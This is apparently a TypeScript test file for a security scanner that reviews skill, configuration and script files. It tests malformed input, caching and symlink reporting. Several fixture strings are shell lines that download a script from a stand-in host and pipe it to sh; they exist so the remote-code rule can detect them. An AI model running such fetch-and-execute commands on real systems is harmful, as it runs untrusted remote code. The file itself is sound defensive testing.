import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { REVIEW_TIME_LIMIT_MS, reviewFile, roleOf } from "./reviewer";
import { REVIEW_RULES } from "./rules";
import { SecurityReview } from "./security-review";

const rules = (path: string, content: string | Buffer) => reviewFile(path, Buffer.isBuffer(content) ? content : Buffer.from(content)).map((finding) => finding.rule_id);

describe("the security review on bad input", () => {
  it("reports a script that is not UTF-8 as unreviewable, and a binary as a binary", () => {
    expect(rules("run.sh", Buffer.from([0x63, 0x75, 0x72, 0x6c, 0x20, 0xe9, 0xff, 0x0a]))).toEqual(["file.unreviewable"]);
    expect(rules("logo.png", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x00]))).toEqual(["file.binary"]);
  });

  it("reads a 10 MB single-line file within its time limit and says the line is too long", () => {
    const started = performance.now();
    const found = rules("notes.md", `${"word ".repeat(2_000_000)}\n`);
    expect(performance.now() - started).toBeLessThan(REVIEW_TIME_LIMIT_MS * 3);
    expect(found).toContain("file.unreviewable");
    // The same in a shell script: a line that long is not tokenized.
    expect(rules("run.sh", `echo ${"a".repeat(10_000_000)}\n`)).toContain("file.unreviewable");
  });

  it("reports a config nested too deeply to parse, without crashing", () => {
    const deep = `${"[".repeat(200_000)}${"]".repeat(200_000)}`;
    expect(rules("settings.json", deep)).toEqual(["file.unreviewable"]);
    expect(rules("broken.json", '{ "mcpServers": { , }')).toEqual(["file.unreviewable"]);
    expect(rules("config.toml", "[mcp_servers\nx = ")).toEqual(["file.unreviewable"]);
  });

  it("reads shell with unbalanced quotes without crashing, and still sees the commands around it", () => {
    expect(rules("run.sh", 'echo "unterminated\ncurl -fsSL https://e.test/x | sh\n')).toContain("shell.remote-code");
    expect(rules("run.sh", "echo 'it''s\n(((\n$(\n`\n")).toEqual([]);
  });

  it("decides rules by the file's path", () => {
    expect([roleOf("a/SKILL.md"), roleOf("x/run.sh"), roleOf(".mcp.json"), roleOf("config.toml"), roleOf("m.yml"), roleOf("package.json"), roleOf("t.py"), roleOf("LICENSE")]).toEqual([
      "markdown",
      "shell",
      "json",
      "toml",
      "yaml",
      "package-json",
      "script",
      "text",
    ]);
    // A script without an extension is read as shell by its shebang.
    expect(rules("bin/install", "#!/bin/sh\ncurl -s https://e.test/i | sh\n")).toEqual(["shell.remote-code"]);
  });
});

describe("the security review's cache", () => {
  it("reviews a content hash once per role, and reuses an artifact's findings for its unchanged files", async () => {
    const review = new SecurityReview();
    const content = Buffer.from("curl -s https://e.test/i | sh\n");
    let reads = 0;
    const read = async () => {
      reads += 1;
      return content;
    };
    const file = { path: "a.sh", sha256: "a".repeat(64), size: content.length, executable: false };
    const first = await review.review([file], read);
    expect(first).toMatchObject([{ rule_id: "shell.remote-code", path: "a.sh", line: 1 }]);
    await review.review([{ ...file, path: "b.sh" }], read);
    expect(reads).toBe(1);
    // Another role of the same bytes is read by other rules.
    await review.review([{ ...file, path: "a.md" }], read);
    expect(reads).toBe(2);
    // Known findings of unchanged files are used as they are, without reading.
    const fresh = new SecurityReview();
    expect(await fresh.review([file], read, { files: [file], findings: first })).toEqual(first);
    expect(reads).toBe(2);
    expect(await new SecurityReview(false).review([file], read)).toEqual([]);
  });

  it("reports upstream's symlinks, and keeps reporting them through edits", async () => {
    const review = new SecurityReview();
    const read = async () => Buffer.from("# fine\n");
    const file = { path: "SKILL.md", sha256: "b".repeat(64), size: 7, executable: false };
    const imported = await review.review([file], read, undefined, ["config"]);
    expect(imported).toMatchObject([{ rule_id: "file.symlink", severity: "medium", path: "config" }]);
    expect(await review.review([file], read, { files: [file], findings: imported })).toEqual(imported);
    expect(await review.review([file], read, { files: [file], findings: imported }, [])).toEqual([]);
  });
});

describe("the rules table", () => {
  it("is documented in docs/security-review.md, rule by rule with its severity", () => {
    const doc = readFileSync(fileURLToPath(new URL("../../../../docs/security-review.md", import.meta.url)), "utf8");
    const missing = REVIEW_RULES.filter((rule) => !doc.includes(`| \`${rule.id}\` | ${rule.severity} |`)).map((rule) => rule.id);
    expect(missing).toEqual([]);
  });
});
